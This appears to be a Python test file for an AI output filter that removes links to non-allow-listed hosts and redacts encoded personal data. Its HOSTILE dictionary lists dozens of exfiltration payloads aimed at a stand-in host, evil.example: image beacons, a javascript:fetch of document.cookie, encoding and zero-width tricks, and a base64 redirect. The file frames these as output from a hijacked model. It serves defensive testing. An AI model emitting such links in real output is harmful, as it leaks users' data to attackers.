"""Egress: no link to a non-allow-listed host survives the output filter, in any syntax or encoding,
and personal data hidden by URL encoding is still redacted."""

from __future__ import annotations

import random
from collections.abc import Iterator

import pytest
from interlock.policies.egress import decoded_view, host_allowed, url_host
from interlock.policies.loader import load_policies
from interlock.policies.output import OutputFilter, StreamingOutputFilter
from interlock.policies.pii import detector_for

ALLOW = ["help.example.com"]


@pytest.fixture(scope="module", autouse=True)
def _isolated_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("INTERLOCK_HOME", str(tmp_path_factory.mktemp("egress-home")))
        yield


@pytest.fixture(scope="module")
def output_filter() -> OutputFilter:
    return OutputFilter(detector_for(load_policies().pii), ALLOW)


# Every form seen from a hijacked model, plus the variants a browser or Markdown renderer accepts.
HOSTILE = {
    "md_inline_link": "Read [the guide](https://evil.example/g?d=abc).",
    "md_inline_image": "![chart](https://evil.example/p.png?d=abc)",
    "md_image_protocol_relative": "![x](//evil.example/p.png?d=abc)",
    "md_reference_protocol_relative": "See [r1].\n\n[r1]: //evil.example/x.png?d=abc",
    "md_reference_next_line_angle": "See [docs][r1].\n\n[r1]:\n   <//evil.example/x.png?d=abc> \"title\"",
    "md_reference_image": "![logo][r2]\n\n  [r2]: https://evil.example/l.png",
    "md_mixed_case_scheme": "[x](HtTpS://evil.example/a)",
    "md_entity_encoded": "[x](&#x2F;&#x2F;evil.example/a)",
    "md_percent_encoded": "[x](%2F%2Fevil.example/a)",
    "md_backslash": "[x](/\\evil.example/a)",
    "md_single_slash_scheme": "[x](https:/evil.example/a)",
    "md_userinfo_trick": "[x](https://help.example.com@evil.example/)",
    "md_suffix_trick": "[x](https://help.example.com.evil.example/)",
    "md_fullwidth_dot": "[x](https://evil\uff0eexample/)",
    "md_zero_width": "[x](https://ev\u200bil.example/)",
    "md_javascript": "[x](javascript:fetch('//evil.example/'+document.cookie))",
    "md_open_redirect": "[x](https://help.example.com/r?next=https%3A%2F%2Fevil.example%2Fx)",
    "md_relative_with_nested": "[x](page.html?next=//evil.example/)",
    "autolink": "<http://evil.example/a?d=1>",
    "autolink_javascript": "<javascript:alert(1)>",
    "bare_url": "Go to https://evil.example/collect?d=1 now.",
    "bare_www": "Visit www.evil.example today.",
    "bare_domain_path": "Upload it to evil.com/collect?d=1 please.",
    "bare_protocol_relative": "Fetch //evil.example/c?d=1 now.",
    "bare_ip_path": "Post it to 203.0.113.9/c?d=1 now.",
    "bare_entity_slashes": "Open https:&#x2F;&#x2F;evil.example/x now.",
    "html_iframe": '<iframe src="//evil.example/x"></iframe>',
    "html_img": '<img src="https://evil.example/a.gif?q=1">',
    "html_img_srcset": '<IMG SRCSET="https://help.example.com/a.png 1x, //evil.example/b.png 2x">',
    "html_a": '<a href="http://evil.example/">click</a>',
    "html_form_action": '<form action="https://evil.example/f"><input name=x></form>',
    "html_object_data": '<object data="//evil.example/o"></object>',
    "html_style_url": '<div style="background:url(//evil.example/i.png)">hi</div>',
    "html_style_url_entities": '<div style="background:url(&#x2F;&#x2F;evil.example/i.png)">hi</div>',
    "html_meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "html_entity_host": '<img src="&#x2F;&#x2F;evil&#46;example/x">',
    "html_newline_in_url": '<img src="/\n/evil.example/x">',
    "html_newline_in_scheme": '<img\nsrc = "ht\ntps://evil.example/x">',
    "html_quoted_gt": '<img alt=">" src="//evil.example/x">',
    "html_video_poster": '<video poster="//evil.example/p.png"></video>',
    "html_svg_image": '<svg><image href="//evil.example/x"/></svg>',
    "html_event_handler": '<b onmouseover="location=atob(\'Ly9ldmlsLmV4YW1wbGU=\')">hover</b>',
    "html_unquoted": "<img src=//evil.example/x>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_link_to_an_outside_host_survives(output_filter: OutputFilter, name: str) -> None:
    result = output_filter.filter(HOSTILE[name])
    assert "evil" not in decoded_view(result.text).text.lower().replace("\u200b", ""), result.text
    assert "203.0.113.9" not in result.text
    assert any(f.kind in ("egress_link", "egress_image") for f in result.findings)


BENIGN = [
    "[ok](https://docs.help.example.com/a) and https://help.example.com/x?y=1",
    "![diagram](https://help.example.com/d.png)",
    '<img src="https://help.example.com/i.png" alt="x">',
    "[a](#anchor) [b](/relative/path) [c](page.html)",
    "Use Node.js/Express; see config.yaml/ and section 3.2/4. In code: `// comment` and a/b.",
    "Order 12345 costs 5.00 EUR, delivered 2024-05-01.",
]


@pytest.mark.parametrize("text", BENIGN)
def test_allowed_and_relative_links_and_plain_text_stay(output_filter: OutputFilter, text: str) -> None:
    result = output_filter.filter(text)
    assert result.text == text
    assert not result.findings


def test_card_number_percent_encoded_in_an_allowed_link_is_redacted(output_filter: OutputFilter) -> None:
    text = "[pay](https://help.example.com/p?c=4111%201111%201111%201111&n=x)"
    result = output_filter.filter(text)
    assert "4111" not in result.text and "%201111" not in result.text
    assert any(f.kind == "pii" and f.entity == "CREDIT_CARD" for f in result.findings)
    entity_encoded = "see https://help.example.com/p?c=&#52;111-1111-1111-1111"
    assert "1111-1111-1111" not in output_filter.filter(entity_encoded).text


def test_email_percent_encoded_in_an_allowed_link_is_redacted(output_filter: OutputFilter) -> None:
    text = "[x](https://help.example.com/q?who=marta.lindqvist%40partner-corp.example)"
    result = output_filter.filter(text)
    assert "lindqvist" not in result.text.lower()


def test_streamed_hostile_links_never_reach_the_client(output_filter: OutputFilter) -> None:
    answer = ("Here is the summary you asked for. " * 3
              + '<iframe\n  src="//evil.example/x?d=' + "a" * 80 + '"></iframe> and '
              + "[r1] is the reference.\n\n[r1]: //evil.example/x.png?d=4111\n"
              + "![i](https://evil.example/p.png) and <img src=\"&#x2F;&#x2F;evil.example/q\"> done.")
    whole = output_filter.filter(answer).text
    assert "evil" not in whole
    rng = random.Random(3)
    for trial in range(20):
        stream = StreamingOutputFilter(output_filter, hold=48, batch=1 if trial % 2 else 16)
        sent: list[str] = []
        pos = 0
        while pos < len(answer):
            size = rng.randint(1, 11)
            sent.append(stream.feed(answer[pos : pos + size]))
            pos += size
        sent.append(stream.close())
        seen = ""
        for part in sent:
            seen += part
            assert "evil" not in seen
        assert "".join(sent) == whole


@pytest.mark.parametrize(
    ("url", "host"),
    [("//Evil.Example./x", "evil.example"), ("https:\\\\evil.example", "evil.example"),
     ("https://a@evil.example:8080/", "evil.example"), ("javascript:alert(1)", None),
     ("https://[::1", None), ("relative/path", ""), ("www.evil.example/x", "www.evil.example")],
)
def test_url_host(url: str, host: str | None) -> None:
    assert url_host(url) == host


def test_host_allowed_is_exact_or_subdomain() -> None:
    assert host_allowed("https://docs.help.example.com/a", ALLOW)
    assert not host_allowed("https://nothelp.example.com/a", ALLOW)
    assert not host_allowed("relative/a", ALLOW)
